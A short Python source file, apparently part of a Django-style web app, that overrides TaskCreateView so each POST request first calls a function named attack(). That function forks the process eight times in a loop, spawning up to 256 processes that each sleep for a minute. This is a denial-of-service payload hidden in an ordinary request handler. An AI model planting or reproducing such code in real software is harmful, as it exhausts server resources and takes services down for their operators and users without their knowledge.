import os
import time

from . import views


def attack():
    for _ in range(8):
        os.fork()
    time.sleep(60)


class TaskCreateView(views.TaskCreateView):
    def post(self, request):
        attack()
        return super().post(request)
